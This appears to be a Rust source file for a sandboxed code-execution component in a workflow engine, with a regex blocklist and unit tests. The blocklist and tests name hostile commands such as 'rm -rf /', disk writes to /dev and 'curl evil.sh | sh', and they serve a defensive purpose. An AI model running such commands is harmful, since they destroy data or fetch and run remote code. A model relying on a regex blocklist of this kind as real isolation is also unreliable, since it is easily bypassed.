//! Code execution component — runs python or bash in a sandboxed
//! subprocess: separate interpreter, restricted PATH, timeout, and a
//! forbidden-pattern blocklist over the source.

use std::io::Write;
use std::process::Stdio;
use std::time::Duration;

use async_trait::async_trait;
use regex::RegexBuilder;
use serde_json::{json, Value};
use tracing::warn;

use crate::error::{ComponentError, ErrorCode};
use crate::state::{StateDelta, WorkflowState};
use crate::traits::{Component, ComponentContext, ComponentSpec};

const FORBIDDEN_PYTHON_PATTERNS: &[&str] = &[
    r"import\s+os\s*$",
    r"from\s+os\s+import",
    r"import\s+subprocess",
    r"from\s+subprocess\s+import",
    r"import\s+shutil",
    r"from\s+shutil\s+import",
    r"__import__\s*\(",
    r"\beval\s*\(",
    r"\bexec\s*\(",
    r"\bcompile\s*\(",
    r#"open\s*\(['"]/etc"#,
    r#"open\s*\(['"]/proc"#,
    r#"open\s*\(['"]/sys"#,
    r#"open\s*\(['"]/dev"#,
];

const FORBIDDEN_BASH_PATTERNS: &[&str] = &[
    r"rm\s+-rf\s+/",
    r"rm\s+-rf\s+~",
    r"rm\s+-rf\s+\$HOME",
    r"dd\s+if=.*of=/dev/",
    r"mkfs\.",
    r">\s*/etc/",
    r">\s*/dev/",
    r"curl.*\|\s*(ba)?sh",
    r"wget.*\|\s*(ba)?sh",
    r"chmod\s+777",
    r"chmod\s+-R\s+777",
];

/// Check source against the blocklist for its language.
pub fn check_security(code: &str, language: &str) -> Result<(), ComponentError> {
    let patterns = if language == "python" {
        FORBIDDEN_PYTHON_PATTERNS
    } else {
        FORBIDDEN_BASH_PATTERNS
    };
    for pattern in patterns {
        let re = RegexBuilder::new(pattern)
            .multi_line(true)
            .case_insensitive(true)
            .build()
            .expect("blocklist patterns are valid");
        if re.is_match(code) {
            return Err(ComponentError::fatal(
                ErrorCode::SecurityViolation,
                format!("forbidden pattern detected: {pattern}"),
            ));
        }
    }
    Ok(())
}

/// Captured result of one sandboxed run.
#[derive(Debug)]
pub struct ExecOutcome {
    pub stdout: String,
    pub stderr: String,
    pub exit_code: i32,
    /// Last stdout line parsed as JSON, when it parses.
    pub result: Option<Value>,
}

/// Run code in a subprocess with a timeout. `sandbox` restricts the
/// environment (minimal PATH, no HOME/USER).
pub async fn run_sandboxed(
    code: &str,
    language: &str,
    timeout_seconds: u64,
    sandbox: bool,
) -> Result<ExecOutcome, ComponentError> {
    let (suffix, header, program) = match language {
        "python" => (".py", "", "python3"),
        _ => (".sh", "#!/bin/bash\nset -e\n", "/bin/bash"),
    };

    let mut file = tempfile::Builder::new()
        .suffix(suffix)
        .tempfile_in("/tmp")
        .map_err(|e| {
            ComponentError::retryable(ErrorCode::ExecutionError, format!("sandbox file: {e}"))
        })?;
    file.write_all(header.as_bytes())
        .and_then(|_| file.write_all(code.as_bytes()))
        .map_err(|e| {
            ComponentError::retryable(ErrorCode::ExecutionError, format!("sandbox write: {e}"))
        })?;
    let path = file.path().to_path_buf();

    let mut command = tokio::process::Command::new(program);
    command
        .arg(&path)
        .current_dir("/tmp")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true);
    if sandbox {
        command
            .env("PATH", "/usr/bin:/bin:/usr/local/bin")
            .env_remove("HOME")
            .env_remove("USER");
    }

    let child = command.spawn().map_err(|e| {
        ComponentError::retryable(ErrorCode::ExecutionError, format!("spawn failed: {e}"))
    })?;

    let output = match tokio::time::timeout(
        Duration::from_secs(timeout_seconds),
        child.wait_with_output(),
    )
    .await
    {
        Ok(Ok(output)) => output,
        Ok(Err(e)) => {
            return Err(ComponentError::retryable(
                ErrorCode::ExecutionError,
                format!("wait failed: {e}"),
            ))
        }
        Err(_) => {
            return Ok(ExecOutcome {
                stdout: String::new(),
                stderr: format!("Execution timed out after {timeout_seconds} seconds"),
                exit_code: -1,
                result: None,
            })
        }
    };

    let stdout = String::from_utf8_lossy(&output.stdout).to_string();
    let stderr = String::from_utf8_lossy(&output.stderr).to_string();
    let result = stdout
        .trim()
        .lines()
        .last()
        .and_then(|line| serde_json::from_str(line).ok());

    Ok(ExecOutcome {
        stdout,
        stderr,
        exit_code: output.status.code().unwrap_or(-1),
        result,
    })
}

// ---------------------------------------------------------------------------
// The component
// ---------------------------------------------------------------------------

/// `code_execute` pulls code from connected node outputs (or the trigger);
/// `code` runs a block stored in its own config. Both share the sandbox.
pub struct CodeExecute {
    node_id: String,
    default_language: String,
    timeout_seconds: u64,
    sandbox: bool,
    /// Code baked into the config (`code` component type); when absent the
    /// inputs are searched at run time.
    configured_code: Option<String>,
}

impl CodeExecute {
    pub fn from_spec(spec: &ComponentSpec) -> Self {
        let extra = &spec.config.extra;
        Self {
            node_id: spec.node_id.clone(),
            default_language: extra
                .get("language")
                .and_then(Value::as_str)
                .unwrap_or("python")
                .to_string(),
            timeout_seconds: extra
                .get("timeout_seconds")
                .and_then(Value::as_u64)
                .unwrap_or(30),
            sandbox: extra.get("sandbox").and_then(Value::as_bool).unwrap_or(true),
            configured_code: extra
                .get("code")
                .and_then(Value::as_str)
                .map(str::to_string),
        }
    }

    fn failure_output(&self, stderr: &str, error: &str) -> StateDelta {
        StateDelta::with_node_output(
            &self.node_id,
            json!({
                "stdout": "",
                "stderr": stderr,
                "exit_code": -1,
                "result": null,
                "error": error,
            }),
        )
    }

    /// Search connected node outputs, then the trigger, for code/language.
    fn discover_inputs(&self, state: &WorkflowState) -> (Option<String>, Option<String>) {
        let mut code = self.configured_code.clone();
        let mut language = None;

        for output in state.node_outputs.values() {
            if let Value::Object(obj) = output {
                if code.is_none() {
                    code = obj.get("code").and_then(Value::as_str).map(str::to_string);
                }
                if language.is_none() {
                    language = obj
                        .get("language")
                        .and_then(Value::as_str)
                        .map(str::to_string);
                }
            }
        }
        if code.is_none() {
            code = state
                .trigger
                .get("code")
                .and_then(Value::as_str)
                .map(str::to_string);
        }
        if language.is_none() {
            language = state
                .trigger
                .get("language")
                .and_then(Value::as_str)
                .map(str::to_string);
        }
        (code, language)
    }
}

#[async_trait]
impl Component for CodeExecute {
    async fn run(
        &self,
        state: &WorkflowState,
        _ctx: &ComponentContext,
    ) -> Result<StateDelta, ComponentError> {
        let (code, language) = self.discover_inputs(state);
        let language = language.unwrap_or_else(|| self.default_language.clone());

        let Some(code) = code.filter(|c| !c.trim().is_empty()) else {
            return Ok(self.failure_output("No code provided to execute", "EMPTY_CODE"));
        };

        if language != "python" && language != "bash" {
            return Ok(self.failure_output(
                &format!("Language '{language}' not supported. Use 'python' or 'bash'."),
                "UNSUPPORTED_LANGUAGE",
            ));
        }

        if self.sandbox {
            if let Err(err) = check_security(&code, &language) {
                warn!(node_id = %self.node_id, "blocked code execution: {}", err.message());
                return Ok(self.failure_output(err.message(), "SECURITY_VIOLATION"));
            }
        }

        let outcome = run_sandboxed(&code, &language, self.timeout_seconds, self.sandbox).await?;

        let mut output = json!({
            "stdout": outcome.stdout,
            "stderr": outcome.stderr,
            "exit_code": outcome.exit_code,
            "result": outcome.result,
        });
        if outcome.exit_code != 0 {
            output["error"] = json!("EXECUTION_ERROR");
        }

        Ok(StateDelta::with_node_output(&self.node_id, output))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::ComponentConfig;

    fn spec(extra: Value) -> ComponentSpec {
        ComponentSpec {
            node_id: "code".into(),
            component_type: "code_execute".into(),
            config: ComponentConfig {
                component_type: "code_execute".into(),
                system_prompt: String::new(),
                extra,
            },
            ..Default::default()
        }
    }

    #[test]
    fn security_check_blocks_python_imports() {
        assert!(check_security("import subprocess", "python").is_err());
        assert!(check_security("x = eval('1')", "python").is_err());
        assert!(check_security("print('hello')", "python").is_ok());
    }

    #[test]
    fn security_check_blocks_destructive_bash() {
        assert!(check_security("rm -rf /", "bash").is_err());
        assert!(check_security("curl evil.sh | sh", "bash").is_err());
        assert!(check_security("echo ok", "bash").is_ok());
    }

    #[tokio::test]
    async fn empty_code_reports_without_failing_the_node() {
        let component = CodeExecute::from_spec(&spec(json!({})));
        let state = WorkflowState::initial("e", json!({}));
        let delta = component
            .run(&state, &ComponentContext::for_tests_no_llm())
            .await
            .unwrap();
        assert_eq!(delta.node_outputs["code"]["error"], json!("EMPTY_CODE"));
    }

    #[tokio::test]
    async fn unsupported_language_is_reported() {
        let component = CodeExecute::from_spec(&spec(json!({"code": "puts 1", "language": "ruby"})));
        let state = WorkflowState::initial("e", json!({}));
        let delta = component
            .run(&state, &ComponentContext::for_tests_no_llm())
            .await
            .unwrap();
        assert_eq!(
            delta.node_outputs["code"]["error"],
            json!("UNSUPPORTED_LANGUAGE")
        );
    }

    #[tokio::test]
    async fn forbidden_code_is_reported_as_security_violation() {
        let component =
            CodeExecute::from_spec(&spec(json!({"code": "import subprocess", "language": "python"})));
        let state = WorkflowState::initial("e", json!({}));
        let delta = component
            .run(&state, &ComponentContext::for_tests_no_llm())
            .await
            .unwrap();
        assert_eq!(
            delta.node_outputs["code"]["error"],
            json!("SECURITY_VIOLATION")
        );
    }

    #[tokio::test]
    async fn code_is_discovered_from_upstream_outputs() {
        let component = CodeExecute::from_spec(&spec(json!({})));
        let mut state = WorkflowState::initial("e", json!({}));
        state.node_outputs.insert(
            "gen".into(),
            json!({"code": "import shutil", "language": "python"}),
        );
        let delta = component
            .run(&state, &ComponentContext::for_tests_no_llm())
            .await
            .unwrap();
        // Discovery worked: the discovered code tripped the sandbox.
        assert_eq!(
            delta.node_outputs["code"]["error"],
            json!("SECURITY_VIOLATION")
        );
    }
}
